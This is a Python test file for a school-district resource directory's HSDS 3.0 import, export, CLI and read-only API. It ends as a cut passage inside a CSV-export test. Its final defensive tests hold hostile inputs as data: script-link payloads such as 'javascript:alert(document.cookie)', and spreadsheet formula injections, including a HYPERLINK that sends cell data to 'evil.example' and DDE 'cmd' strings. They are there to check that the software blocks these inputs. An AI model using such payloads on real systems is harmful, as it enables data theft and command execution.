"""Open Referral HSDS 3.0: export and import (JSON and CSV), the official examples, per-record errors
with nothing written, the `lantern resources` commands, and the read-only API's pages and filters."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import AsyncTestClient

from web.db import write_transaction
from web.district.tables import School
from web.resources.hsds import mapping
from web.resources.hsds.csv_package import write_csv_package
from web.resources.hsds.export import directory_records
from web.resources.hsds.importer import ImportMode, clear_directory, import_path
from web.resources.hsds.json_package import write_json_package
from web.resources.hsds.schema import check, nested_relations, object_schema
from web.resources.tables import (
    Address,
    Attribute,
    Language,
    Location,
    Organization,
    Phone,
    Schedule,
    Service,
    ServiceAtLocation,
    ServiceTranslation,
    Taxonomy,
    TaxonomyTerm,
)

pytestmark = pytest.mark.anyio

ROOT = Path(__file__).resolve().parents[2]
OFFICIAL = ROOT / "tests" / "data" / "hsds" / "official"
LANTERN = str(Path(sys.executable).with_name("lantern"))
TABLES = {
    "organization": Organization,
    "service": Service,
    "location": Location,
    "address": Address,
    "service_at_location": ServiceAtLocation,
    "phone": Phone,
    "schedule": Schedule,
    "language": Language,
    "taxonomy": Taxonomy,
    "taxonomy_term": TaxonomyTerm,
    "attribute": Attribute,
}
OFFICIAL_SERVICE = "ac148810-d857-441c-9679-408f346de14b"


async def snapshot() -> dict[str, Any]:
    """Every directory row, every column (translations without their row ids, which are not carried)."""
    rows: dict[str, Any] = {
        name: sorted(await table.select(), key=lambda row: str(row["id"])) for name, table in TABLES.items()
    }
    rows["translation"] = sorted(
        (row["service"], row["locale"], row["name"], row["description"])
        for row in await ServiceTranslation.select()
    )
    return rows


async def restore_demo_directory() -> None:
    from web.demo.seed import _seed_resources

    async with write_transaction(Service._meta.db):
        await clear_directory()
        schools = {school.slug: school for school in await School.objects()}
        await _seed_resources(schools)


@pytest.fixture
async def directory(client: AsyncTestClient) -> AsyncIterator[AsyncTestClient]:
    """The demo directory, put back as it was after the test."""
    yield client
    await restore_demo_directory()


async def enrich_every_column() -> None:
    """The demo leaves some columns empty; give each of them a value somewhere."""
    org = await Organization.objects().order_by(Organization.id).first()
    assert org is not None
    await Organization.update(
        {Organization.alternate_name: 'Alt, "quoted" name', Organization.email: "help@example.org"}
    ).where(Organization.id == org.id)
    service = await Service.objects().where(Service.pinned_rank == None).order_by(Service.id).first()
    assert service is not None
    await Service.update(
        {
            Service.alternate_name: "Also known as",
            Service.email: "desk@example.org",
            Service.status: "inactive",
            Service.interpretation_services: "Interpreters by phone",
            Service.assured_date: date(2026, 1, 15),
            Service.description: "Line one,\nline two — «quoted».",
        }
    ).where(Service.id == service.id)
    link = await ServiceAtLocation.objects().order_by(ServiceAtLocation.id).first()
    assert link is not None
    await ServiceAtLocation.update({ServiceAtLocation.description: "Side door"}).where(
        ServiceAtLocation.id == link.id
    )
    await Location.update(
        {
            Location.latitude: Decimal("39.103456"),
            Location.longitude: Decimal("-94.5"),
            Location.description: "Brick building",
            Location.transportation: "Bus 12",
        }
    ).where(Location.id == link.location)
    await Address.update(
        {Address.attention: "Front desk", Address.address_2: "Suite 4", Address.region: "Wyandotte",
         Address.address_type: "postal"}
    ).where(Address.location == link.location)  # fmt: skip
    phones = await Phone.objects().order_by(Phone.id).limit(2)
    await Phone.update(
        {Phone.extension: "12", Phone.organization: org.id, Phone.location: link.location}
    ).where(Phone.id == phones[0].id)
    await Phone.update({Phone.extension: "x0012"}).where(Phone.id == phones[1].id)
    schedule = await Schedule.objects().order_by(Schedule.id).first()
    assert schedule is not None
    await Schedule.update(
        {
            Schedule.description: "Closed on holidays",
            Schedule.location: link.location,
            Schedule.service_at_location: link.id,
            Schedule.opens_at: "09:30:00",
        }
    ).where(Schedule.id == schedule.id)
    await Language(
        id=uuid.uuid4(), location=link.location, phone=phones[0].id, name="Somali", code="so", note="Tuesdays"
    ).save()
    await Taxonomy.update({Taxonomy.uri: "https://example.org/needs", Taxonomy.version: "2"}, force=True)
    grief = await TaxonomyTerm.objects().where(TaxonomyTerm.code == "grief").first()
    mental = await TaxonomyTerm.objects().where(TaxonomyTerm.code == "mental_health").first()
    assert grief is not None and mental is not None
    await TaxonomyTerm.update(
        {TaxonomyTerm.parent: mental.id, TaxonomyTerm.term_uri: "https://example.org/needs/grief",
         TaxonomyTerm.language: None}
    ).where(TaxonomyTerm.id == grief.id)  # fmt: skip
    attribute = await Attribute.objects().order_by(Attribute.id).first()
    assert attribute is not None
    await Attribute.update({Attribute.value: "urgent"}).where(Attribute.id == attribute.id)


def assert_valid_hsds(records: dict[str, list[dict[str, Any]]]) -> None:
    for table, rows in records.items():
        for record in rows:
            assert check(table, record) == [], (table, record)


# ---- round trips ------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["json", "csv"])
async def test_round_trip_keeps_every_field(directory: AsyncTestClient, tmp_path: Path, form: str) -> None:
    await enrich_every_column()
    before = await snapshot()
    exported = await directory_records()
    assert_valid_hsds(exported)
    path = tmp_path / ("directory.json" if form == "json" else "directory")
    if form == "json":
        write_json_package(exported, path)
    else:
        write_csv_package(exported, path)
    async with write_transaction(Service._meta.db):
        await clear_directory()
    assert await Service.count() == 0

    report = await import_path(path)

    assert report.errors == [] and report.written
    assert report.warnings == []
    assert report.counts["service"] == len(before["service"])
    after = await snapshot()
    for table in before:
        assert after[table] == before[table], table
    assert await directory_records() == exported


async def test_lantern_fields_travel_as_extension_attributes(directory: AsyncTestClient) -> None:
    exported = await directory_records()
    terms = {term["id"]: term for term in exported["taxonomy_term"]}
    extension = [
        a for a in exported["attribute"] if terms[a["taxonomy_term_id"]]["code"].startswith("lantern:")
    ]
    codes = {terms[a["taxonomy_term_id"]]["code"] for a in extension}
    assert {
        mapping.SCHOOL,
        mapping.PINNED_RANK,
        mapping.SAMPLE,
        mapping.TEXT_KEYWORD,
        mapping.TIMEZONE,
    } <= codes
    assert "lantern:name:es" in codes and "lantern:description:es" in codes
    crisis = next(s for s in exported["service"] if s["name"] == "Crisis Text Line")
    pinned = next(
        a
        for a in extension
        if a["link_id"] == crisis["id"] and terms[a["taxonomy_term_id"]]["code"] == mapping.PINNED_RANK
    )
    assert pinned["value"] == "2" and pinned["link_entity"] == "service"
    [taxonomy] = [t for t in exported["taxonomy"] if t["id"] == str(mapping.EXTENSION_TAXONOMY_ID)]
    assert taxonomy["name"] == "Lantern extensions"


# ---- official examples -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "example",
    ["csv", "tabular.json", "service_full.json", "organization_full.json", "service_at_location_full.json"],
)
async def test_official_examples_import(directory: AsyncTestClient, example: str) -> None:
    report = await import_path(OFFICIAL / example, mode=ImportMode.REPLACE)

    assert report.errors == [], [str(e) for e in report.errors]
    assert report.written
    warnings = [str(w) for w in report.warnings]
    assert any("Lantern does not keep contact records" in w for w in warnings)
    assert any(
        w.startswith("service: fields Lantern does not keep") and "application_process" in w for w in warnings
    )
    service = await Service.objects().where(Service.id == uuid.UUID(OFFICIAL_SERVICE)).first()
    assert service is not None
    assert service.name == "Community Counselling" and service.minimum_age == 12
    assert service.assured_date == date(2005, 1, 1)
    assert service.last_modified == datetime(2023, 3, 15, 10, 30, 45, 123000, tzinfo=UTC)
    [phone] = await Phone.select().where(Phone.service == service.id)
    assert phone["extension"] == "100" and phone["type"] == "voice"
    [schedule] = await Schedule.select()
    assert (schedule["byday"], schedule["opens_at"], schedule["closes_at"]) == (
        "TH,FR",
        "10:00:00",
        "18:00:00",
    )
    assert schedule["timezone_name"] == "Etc/GMT-3"  # HSDS gives the zone as a UTC offset: +3
    [address] = await Address.select()
    assert address["city"] == "MyCity" and address["address_type"] == "postal"
    assert [row["code"] for row in await Language.select()] == ["ur"]
    assert await ServiceAtLocation.count() == 1
    exported = await directory_records()
    assert_valid_hsds(exported)
    if example == "tabular.json":
        assert any("external_identifier: should be text, not the number 10092008082" in w for w in warnings)


# ---- problems ----------------------------------------------------------------------------------------


def _edit_csv(path: Path, edits: dict[int, dict[str, str]], extra: tuple[dict[str, str], ...] = ()) -> None:
    """Change cells by row number (row 2 is the first record) and add rows, as a spreadsheet would."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    for number, changes in edits.items():
        for name, value in changes.items():
            rows[number - 1][header.index(name)] = value
    for added in extra:
        rows.append([added.get(name, "") for name in header])
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


async def test_broken_package_lists_each_problem_and_writes_nothing(
    directory: AsyncTestClient, tmp_path: Path
) -> None:
    folder = tmp_path / "broken"
    write_csv_package(await directory_records(), folder)
    _edit_csv(
        folder / "services.csv",
        {
            2: {"status": "open", "minimum_age": "twelve"},
            3: {"organization_id": "not-an-id"},
            4: {"name": ""},
        },
    )
    _edit_csv(
        folder / "phones.csv",
        {},
        ({"id": str(uuid.uuid4()), "service_id": str(uuid.uuid4()), "number": "555-0100", "type": "voice"},),
    )
    before = await snapshot()

    report = await import_path(folder, mode=ImportMode.REPLACE)

    assert not report.written
    problems = [str(e) for e in report.errors]
    services = sorted((await directory_records())["service"], key=lambda s: s["id"])
    first, second, third = services[0]["id"], services[1]["id"], services[2]["id"]
    assert (
        f"services.csv row 2 (id {first}): status: should be one of: active, inactive, defunct, "
        'temporarily closed; not "open"'
    ) in problems
    assert f'services.csv row 2 (id {first}): minimum_age: should be a number, not "twelve"' in problems
    assert any(
        p.startswith(f"services.csv row 3 (id {second}): organization_id: should be a UUID") for p in problems
    )
    assert f"services.csv row 4 (id {third}): name: is required but empty" in problems
    assert len(problems) == 4, problems
    warnings = [str(w) for w in report.warnings]
    assert any(
        "phones.csv row" in w and "service_id: names service" in w and "left empty" in w for w in warnings
    )
    assert any("phones.csv row" in w and "is linked to nothing Lantern keeps" in w for w in warnings)
    assert await snapshot() == before


async def test_an_error_while_writing_rolls_everything_back(
    directory: AsyncTestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from web.resources.hsds import importer

    path = tmp_path / "directory.json"
    write_json_package(await directory_records(), path)
    before = await snapshot()
    real = importer._upsert

    async def failing(model: Any, rows: Any, existing: Any) -> None:
        if model is Phone:
            raise RuntimeError("disk full")
        await real(model, rows, existing)

    monkeypatch.setattr(importer, "_upsert", failing)
    with pytest.raises(RuntimeError):
        await import_path(path, mode=ImportMode.REPLACE)
    assert await snapshot() == before


async def test_broken_json_and_unknown_school_are_reported(
    directory: AsyncTestClient, tmp_path: Path
) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"service": [\n  {"id": 1,}\n]}')
    report = await import_path(bad, mode=ImportMode.REPLACE)
    [error] = report.errors
    assert str(error).startswith("bad.json line 2 column") and "not valid JSON" in str(error)

    exported = await directory_records()
    school_term = str(mapping.extension_term_id(mapping.SCHOOL))
    attribute = next(a for a in exported["attribute"] if a["taxonomy_term_id"] == school_term)
    attribute["value"] = "atlantis-hs"
    path = tmp_path / "directory.json"
    write_json_package(exported, path)
    report = await import_path(path, mode=ImportMode.REPLACE)
    [error] = report.errors
    assert 'names the school "atlantis-hs", which this district does not have' in str(error)
    assert error.field == "value" and error.record_id == attribute["id"]

    orphan = {
        "id": str(uuid.uuid4()),
        "organization_id": str(uuid.uuid4()),
        "name": "Orphan",
        "status": "active",
    }
    path.write_text(json.dumps({"service": [orphan]}))
    report = await import_path(path, mode=ImportMode.MERGE)
    [error] = report.errors
    assert str(error) == (
        f"directory.json: service record 1 (id {orphan['id']}): organization_id: names organization "
        f"{orphan['organization_id']}, which is not in the package or the directory"
    )
    food = next(t for t in exported["taxonomy_term"] if t["code"] == "food")
    path.write_text(json.dumps({"taxonomy_term": [{**food, "id": str(uuid.uuid4())}]}))
    report = await import_path(path, mode=ImportMode.MERGE)
    [error] = report.errors
    assert (
        error.field == "code"
        and f"same code as the term {food['id']} already in the directory" in error.message
    )


async def test_import_policy_for_a_directory_with_entries(directory: AsyncTestClient, tmp_path: Path) -> None:
    exported = await directory_records()
    path = tmp_path / "directory.json"
    write_json_package(exported, path)

    refused = await import_path(path)
    assert not refused.written
    [error] = refused.errors
    assert error.where == "the directory" and "--replace" in error.message and "--merge" in error.message

    # Merge: a changed service is updated, a new one added, and nothing else is touched.
    changed = next(s for s in exported["service"] if s["name"] == "Crisis Text Line")
    changed["name"] = "Crisis Text Line (updated)"
    new_id = str(uuid.uuid4())
    added = {
        "id": new_id,
        "organization_id": changed["organization_id"],
        "name": "New drop-in",
        "status": "active",
    }
    small = {
        "service": [changed, added],
        "attribute": [a for a in exported["attribute"] if a["link_id"] == changed["id"]],
        "taxonomy_term": exported["taxonomy_term"],
    }
    path.write_text(json.dumps(small))
    count = await Service.count()
    # Every language's name and description (web/demo/translations.json) stays through a merge.
    translations = await ServiceTranslation.count().where(
        ServiceTranslation.service == uuid.UUID(changed["id"])
    )
    assert translations > 1
    merged = await import_path(path, mode=ImportMode.MERGE)
    assert merged.errors == [] and merged.written
    assert await Service.count() == count + 1
    updated = await Service.objects().where(Service.id == uuid.UUID(changed["id"])).first()
    assert updated is not None and updated.name == "Crisis Text Line (updated)" and updated.pinned_rank == 2
    assert updated.last_modified > datetime.fromisoformat(changed["last_modified"])
    assert await Phone.count().where(Phone.service == updated.id) == 2
    assert await ServiceTranslation.count().where(ServiceTranslation.service == updated.id) == translations


async def test_import_dates_only_what_it_changed(directory: AsyncTestClient, tmp_path: Path) -> None:
    """An edited spreadsheet keeps its old last_modified values; the import dates the services it
    changed, so the API's modified_after finds them. Untouched services keep their dates."""
    old = datetime(2024, 1, 1, tzinfo=UTC)
    await Service.update({Service.last_modified: old}, force=True)
    exported = await directory_records()
    path = tmp_path / "directory.json"
    write_json_package(exported, path)
    assert (await import_path(path, mode=ImportMode.REPLACE)).written
    assert {row["last_modified"] for row in await Service.select(Service.last_modified)} == {old}

    edited = exported["service"][0]
    edited["description"] = "Open late on Thursdays."
    phone = next(p for p in exported["phone"] if p.get("service_id") == exported["service"][1]["id"])
    phone["number"] = "913-555-0199"
    write_json_package(exported, path)
    started = datetime.now(tz=UTC)
    assert (await import_path(path, mode=ImportMode.REPLACE)).written
    dates = {
        str(row["id"]): row["last_modified"]
        for row in await Service.select(Service.id, Service.last_modified)
    }
    assert dates.pop(edited["id"]) >= started
    assert dates.pop(exported["service"][1]["id"]) >= started  # a phone is part of its service
    assert set(dates.values()) == {old}


# ---- the command ---------------------------------------------------------------------------------------


def _lantern(*args: str, data_dir: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "LANTERN_DATA_DIR": str(data_dir), "DATABASE_URL": ""}
    return subprocess.run(
        [LANTERN, "resources", *args], capture_output=True, text=True, env=env, cwd=ROOT, timeout=120
    )


def test_cli_import_and_export(tmp_path: Path) -> None:
    data = tmp_path / "data"
    checked = _lantern("import", str(OFFICIAL / "csv"), "--check", data_dir=data)
    assert checked.returncode == 0, checked.stderr
    assert "Nothing was written" in checked.stdout and "Warning: " in checked.stderr

    done = _lantern("import", str(OFFICIAL / "csv"), data_dir=data)
    assert done.returncode == 0, done.stderr
    assert "Imported 1 taxonomy, 1 taxonomy term, 1 organization" in done.stdout

    again = _lantern("import", str(OFFICIAL / "tabular.json"), data_dir=data)
    assert again.returncode == 1
    assert "already has 1 service, 1 organization, 1 taxonomy" in again.stderr
    assert "nothing was written" in again.stderr
    both = _lantern("import", str(OFFICIAL / "tabular.json"), "--replace", "--merge", data_dir=data)
    assert both.returncode == 2 and "not both" in both.stderr
    replaced = _lantern("import", str(OFFICIAL / "tabular.json"), "--replace", data_dir=data)
    assert replaced.returncode == 0, replaced.stderr

    as_json = tmp_path / "out.json"
    assert _lantern("export", str(as_json), data_dir=data).returncode == 0
    exported = json.loads(as_json.read_text())
    assert [s["name"] for s in exported["service"]] == ["Community Counselling"]
    refused = _lantern("export", str(as_json), data_dir=data)
    assert refused.returncode == 1 and "--force" in refused.stderr
    folder = tmp_path / "out"
    assert _lantern("export", str(folder), data_dir=data).returncode == 0
    descriptor = json.loads((folder / "datapackage.json").read_text())
    assert {r["path"] for r in descriptor["resources"]} == {p.name for p in folder.glob("*.csv")}
    assert "services.csv" in {r["path"] for r in descriptor["resources"]}

    broken = tmp_path / "broken"
    shutil.copytree(folder, broken)
    services = broken / "services.csv"
    services.write_text(services.read_text().replace(",active,", ",open,"))
    failed = _lantern("import", str(broken), "--replace", data_dir=data)
    assert failed.returncode == 1
    assert f"Error: services.csv row 2 (id {OFFICIAL_SERVICE}): status: should be one of" in failed.stderr
    assert "1 problem found; nothing was written." in failed.stderr


# ---- the API --------------------------------------------------------------------------------------------


def _assert_only_hsds_fields(table: str, record: dict[str, Any]) -> None:
    """Nothing but HSDS fields, all the way down: no Lantern internals leak out."""
    properties = object_schema(table)["properties"]
    relations = nested_relations(table)
    for key, value in record.items():
        assert key in properties or key in relations, (table, key)
        if key in relations:
            child, many = relations[key]
            for item in value if many else [value]:
                _assert_only_hsds_fields(child, item)


async def test_api_services_are_paginated(client: AsyncTestClient) -> None:
    total = await Service.count()
    first = (await client.get("/api/hsds/services", params={"per_page": 10})).json()
    assert first["total_items"] == total
    assert first["total_pages"] == -(-total // 10)
    assert (first["page_number"], first["size"], first["first_page"], first["last_page"], first["empty"]) == (
        1, 10, True, False, False,
    )  # fmt: skip
    seen = [s["id"] for s in first["contents"]]
    page = 2
    while True:
        body = (await client.get("/api/hsds/services", params={"per_page": 10, "page": page})).json()
        seen += [s["id"] for s in body["contents"]]
        assert not body["first_page"]
        if body["last_page"]:
            break
        page += 1
    assert page == first["total_pages"] and len(seen) == len(set(seen)) == total
    beyond = (await client.get("/api/hsds/services", params={"page": page + 1, "per_page": 10})).json()
    assert beyond["empty"] and beyond["contents"] == [] and beyond["size"] == 0
    for item in first["contents"]:
        assert item["organization"]["id"] == item["organization_id"]
        assert check("service", item, tabular=False) == []
        assert "phones" not in item
    assert (await client.get("/api/hsds/services", params={"per_page": 0})).status_code == 400
    pantry = (await client.get("/api/hsds/services", params={"search": "pantry", "per_page": 100})).json()
    assert pantry["total_items"] > 0
    assert all("pantry" in (s["name"] + s.get("description", "")).lower() for s in pantry["contents"])
    assert (await client.get("/api/hsds/services", params={"page": "x"})).status_code == 400


async def test_api_filters_by_taxonomy_term_and_taxonomy(client: AsyncTestClient) -> None:
    food = await TaxonomyTerm.objects().where(TaxonomyTerm.code == "food").first()
    assert food is not None
    links = await Attribute.select(Attribute.link_id).where(Attribute.taxonomy_term == food.id)
    expected = {row["link_id"] for row in links}
    body = (
        await client.get("/api/hsds/services", params={"taxonomy_term_id": str(food.id), "per_page": 500})
    ).json()
    assert {s["id"] for s in body["contents"]} == expected and body["total_items"] == len(expected)
    by_taxonomy = (
        await client.get("/api/hsds/services", params={"taxonomy_id": str(food.taxonomy), "per_page": 500})
    ).json()
    in_taxonomy = await Attribute.select(Attribute.link_id).where(
        Attribute.taxonomy_term.taxonomy == food.taxonomy
    )
    assert {s["id"] for s in by_taxonomy["contents"]} == {row["link_id"] for row in in_taxonomy}
    assert by_taxonomy["total_items"] > body["total_items"]
    nothing = (await client.get("/api/hsds/services", params={"taxonomy_term_id": str(uuid.uuid4())})).json()
    assert nothing["total_items"] == 0 and nothing["empty"] and nothing["total_pages"] == 0


async def test_api_filters_by_modified_after(directory: AsyncTestClient) -> None:
    client = directory
    past = datetime(2020, 1, 1, tzinfo=UTC)
    await Service.update({Service.last_modified: past}, force=True)
    recent = await Service.objects().order_by(Service.id).first()
    assert recent is not None
    await Service.update({Service.last_modified: datetime(2026, 5, 1, 12, 0, tzinfo=UTC)}).where(
        Service.id == recent.id
    )
    body = (await client.get("/api/hsds/services", params={"modified_after": "2026-05-01T12:00:00Z"})).json()
    assert [s["id"] for s in body["contents"]] == [str(recent.id)]
    assert body["contents"][0]["last_modified"] == "2026-05-01T12:00:00.000Z"
    later = (
        await client.get("/api/hsds/services", params={"modified_after": "2026-05-01T12:00:01+00:00"})
    ).json()
    assert later["total_items"] == 0
    everything = (await client.get("/api/hsds/services", params={"modified_after": "2021-01-01"})).json()
    assert everything["total_items"] == 1
    since_2019 = (await client.get("/api/hsds/services", params={"modified_after": "2019-12-31"})).json()
    assert since_2019["total_items"] == await Service.count()
    assert (await client.get("/api/hsds/services", params={"modified_after": "yesterday"})).status_code == 400
    minimal = (await client.get("/api/hsds/services", params={"minimal": "true", "per_page": 2})).json()
    assert all(set(item) == {"id", "last_modified"} for item in minimal["contents"])


async def test_api_service_is_fully_nested_hsds(client: AsyncTestClient) -> None:
    [service] = await Service.select(Service.id).where(Service.name == "Crisis Text Line")
    response = await client.get(f"/api/hsds/services/{service['id']}")
    assert response.status_code == 200
    body = response.json()
    assert check("service", body, tabular=False) == []
    _assert_only_hsds_fields("service", body)
    assert {(p["number"], p["type"]) for p in body["phones"]} == {("741741", "text")}
    assert {a["taxonomy_term"]["code"] for a in body["attributes"]} >= {"mental_health", mapping.PINNED_RANK}
    assert body["organization"]["name"] == "Crisis Text Line"
    missing = await client.get(f"/api/hsds/services/{uuid.uuid4()}")
    assert missing.status_code == 404 and missing.json()["detail"] == "No service with that id"
    assert (await client.get("/api/hsds/services/not-an-id")).status_code == 404


async def test_api_service_with_a_location(client: AsyncTestClient) -> None:
    [link] = await ServiceAtLocation.select().limit(1)
    body = (await client.get(f"/api/hsds/services/{link['service']}")).json()
    [nested] = body["service_at_locations"]
    assert nested["location"]["id"] == str(link["location"])
    assert nested["location"]["addresses"][0]["country"] == "US"
    _assert_only_hsds_fields("service", body)
    sal = (await client.get(f"/api/hsds/service_at_locations/{link['id']}")).json()
    assert sal["service"]["id"] == str(link["service"]) and sal["location"]["id"] == str(link["location"])
    assert check("service_at_location", sal, tabular=False) == []
    page = (await client.get("/api/hsds/service_at_locations", params={"per_page": 5})).json()
    assert page["total_items"] == await ServiceAtLocation.count() and page["size"] == 5
    assert all("location" in item and "service" in item for item in page["contents"])


async def test_api_organizations_and_taxonomies(directory: AsyncTestClient) -> None:
    client = directory
    organizations = (await client.get("/api/hsds/organizations", params={"per_page": 5})).json()
    assert organizations["total_items"] == await Organization.count() and organizations["size"] == 5
    for item in organizations["contents"]:
        assert check("organization", item, tabular=False) == []
        assert "services" not in item
    [org] = await Organization.select(Organization.id).where(Organization.name == "Crisis Text Line")
    detail = (await client.get(f"/api/hsds/organizations/{org['id']}")).json()
    assert [s["name"] for s in detail["services"]] == ["Crisis Text Line"]
    full = (await client.get(f"/api/hsds/organizations/{org['id']}", params={"full_service": "true"})).json()
    assert full["services"][0]["phones"]
    searched = (await client.get("/api/hsds/organizations", params={"search": "crisis text"})).json()
    assert [o["name"] for o in searched["contents"]] == ["Crisis Text Line"]

    taxonomies = (await client.get("/api/hsds/taxonomies")).json()
    [taxonomy] = taxonomies["contents"]
    assert taxonomy["name"] == "Lantern needs"
    assert (await client.get(f"/api/hsds/taxonomies/{taxonomy['id']}")).json() == taxonomy
    terms = (await client.get("/api/hsds/taxonomy_terms", params={"per_page": 100})).json()
    assert terms["total_items"] == await TaxonomyTerm.count()
    food = next(t for t in terms["contents"] if t["code"] == "food")
    assert food["taxonomy_detail"]["id"] == taxonomy["id"]
    assert (await client.get(f"/api/hsds/taxonomy_terms/{food['id']}")).json() == food
    in_taxonomy = (
        await client.get("/api/hsds/taxonomy_terms", params={"taxonomy_id": taxonomy["id"]})
    ).json()
    assert in_taxonomy["total_items"] == terms["total_items"]
    assert (await client.get(f"/api/hsds/taxonomy_terms/{uuid.uuid4()}")).status_code == 404
    grief = next(t for t in terms["contents"] if t["code"] == "grief")
    mental = next(t for t in terms["contents"] if t["code"] == "mental_health")
    await TaxonomyTerm.update({TaxonomyTerm.parent: uuid.UUID(mental["id"])}).where(
        TaxonomyTerm.id == uuid.UUID(grief["id"])
    )
    children = (await client.get("/api/hsds/taxonomy_terms", params={"parent_id": mental["id"]})).json()
    assert [t["id"] for t in children["contents"]] == [grief["id"]]
    assert children["contents"][0]["parent_id"] == mental["id"]
    top = (await client.get("/api/hsds/taxonomy_terms", params={"top_only": "true", "per_page": 100})).json()
    assert top["total_items"] == terms["total_items"] - 1 and grief["id"] not in {
        t["id"] for t in top["contents"]
    }


async def test_api_ndjson_and_about(client: AsyncTestClient) -> None:
    response = await client.get("/api/hsds/services", params={"format": "ndjson"})
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = response.text.strip().split("\n")
    assert len(lines) == await Service.count()
    assert all(json.loads(line)["id"] for line in lines)
    about = (await client.get("/api/hsds")).json()
    assert about["version"] == "3.0" and about["openapi_url"].endswith("/openapi.json")
    assert (await client.get("/api/hsds/services", params={"format": "xml"})).status_code == 400


async def test_api_never_shows_a_table_other_than_the_directory(client: AsyncTestClient) -> None:
    for path in ("/api/hsds/reports", "/api/hsds/staff", "/api/hsds/schools"):
        assert (await client.get(path)).status_code == 404
    body = (await client.get("/api/hsds/services", params={"full": "true", "per_page": 500})).json()
    for item in body["contents"]:
        _assert_only_hsds_fields("service", item)


async def test_district_admins_download_check_and_load_hsds_in_the_console(client: AsyncTestClient) -> None:
    import json as json_module

    from tests.integration.staff_support import DISTRICT, NORTHGATE_ADMIN, sign_in

    token = await sign_in(client, NORTHGATE_ADMIN)
    assert (await client.get("/staff/admin/resources/hsds")).status_code == 404
    client.cookies.clear()
    token = await sign_in(client, DISTRICT)
    download = await client.get("/staff/admin/resources/hsds/directory.json")
    assert download.status_code == 200
    assert "attachment" in download.headers["content-disposition"]
    package = json_module.loads(download.content)
    assert package  # a tabular HSDS package with the demo directory

    checked = await client.post(
        "/staff/admin/resources/hsds",
        data={"mode": "merge", "check_only": "yes", "_csrf_token": token},
        files={"file": ("directory.json", download.content, "application/json")},
    )
    assert checked.status_code == 200 and 'data-testid="hsds-checked"' in checked.text

    broken = json_module.loads(download.content)
    first_table = next(k for k, v in broken.items() if isinstance(v, list) and v and "service" in k)
    broken[first_table][0]["status"] = "open"  # not an HSDS status
    refused = await client.post(
        "/staff/admin/resources/hsds",
        data={"mode": "merge", "_csrf_token": token},
        files={"file": ("broken.json", json_module.dumps(broken).encode(), "application/json")},
    )
    assert refused.status_code == 422 and 'data-testid="hsds-errors"' in refused.text
    assert "status" in refused.text

    loaded = await client.post(
        "/staff/admin/resources/hsds",
        data={"mode": "merge", "_csrf_token": token},
        files={"file": ("directory.json", download.content, "application/json")},
    )
    assert loaded.status_code == 200 and 'data-testid="hsds-written"' in loaded.text


async def test_api_serves_no_archived_entry(directory: AsyncTestClient) -> None:
    client = directory
    [link] = await ServiceAtLocation.select().limit(1)
    service_id = str(link["service"])
    [row] = await Service.select(Service.organization).where(Service.id == link["service"])
    await Service.update({Service.status: "inactive"}).where(Service.id == link["service"])  # archived
    assert (await client.get(f"/resources/{service_id}")).status_code == 404  # as the public page says
    assert (await client.get(f"/api/hsds/services/{service_id}")).status_code == 404
    assert (await client.get(f"/api/hsds/service_at_locations/{link['id']}")).status_code == 404
    listed = (await client.get("/api/hsds/services", params={"per_page": 500})).json()
    assert service_id not in {s["id"] for s in listed["contents"]}
    assert listed["total_items"] == await Service.count().where(Service.status == "active")
    streamed = (await client.get("/api/hsds/services", params={"format": "ndjson"})).text.split("\n")
    assert service_id not in {json.loads(line)["id"] for line in streamed if line}
    places = (await client.get("/api/hsds/service_at_locations", params={"per_page": 500})).json()
    assert str(link["id"]) not in {s["id"] for s in places["contents"]}
    organization = (
        await client.get(f"/api/hsds/organizations/{row['organization']}", params={"full_service": "true"})
    ).json()
    assert service_id not in {s["id"] for s in organization.get("services", [])}


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(document.cookie)", "JaVa\tScRiPt:alert(1)", " data:text/html,<script>x</script>"],
)
async def test_import_refuses_links_that_would_run_script(
    directory: AsyncTestClient, tmp_path: Path, url: str
) -> None:
    folder = tmp_path / "links"
    write_csv_package(await directory_records(), folder)
    _edit_csv(
        folder / "services.csv",
        {2: {"url": url}, 3: {"url": "tel:+18165550100"}, 4: {"url": "mailto:a@b.org"}},
    )
    _edit_csv(folder / "organizations.csv", {2: {"website": "vbscript:msgbox(1)"}})
    before = await snapshot()

    report = await import_path(folder, mode=ImportMode.REPLACE)

    assert not report.written and await snapshot() == before
    problems = [str(e) for e in report.errors]
    assert len(problems) == 2, problems
    assert any(p.startswith("services.csv row 2") and "url: should be a web address starting with https://" in p
               for p in problems)  # fmt: skip
    assert any(p.startswith("organizations.csv row 2") and "website:" in p for p in problems)


async def test_a_stored_script_link_is_never_shown_as_a_link(directory: AsyncTestClient) -> None:
    [first, second] = await Service.select(Service.id).where(Service.status == "active").limit(2)
    await Service.update({Service.url: "javascript:alert(document.cookie)"}).where(Service.id == first["id"])
    await Service.update({Service.url: "tel:+18165550100"}).where(Service.id == second["id"])
    page = await directory.get(f"/resources/{first['id']}")
    assert page.status_code == 200
    assert "javascript:" not in page.text.lower()
    assert 'href="tel:+18165550100"' in (await directory.get(f"/resources/{second['id']}")).text


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for help")',
    "=cmd|' /C calc'!A0",
    "+1 816 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'Til Dawn shelter",
]


async def test_csv_export_writes_no_formula_and_reads_back_the_same(
    directory: AsyncTestClient, tmp_path: Path
) -> None:
    services = await Service.select(Service.id).order_by(Service.id).limit(len(FORMULAS))
    for row, text in zip(services, FORMULAS, strict=True):
        await Service.update({Service.description: text, Service.alternate_name: text}).where(
            Service.id == row["id"]
        )
    before = await snapshot()
    folder = tmp_path / "export"
    write_csv_package(await directory_records(), folder)
    with (folder / "services.csv").open(newline="", encoding="utf-8") as handle:
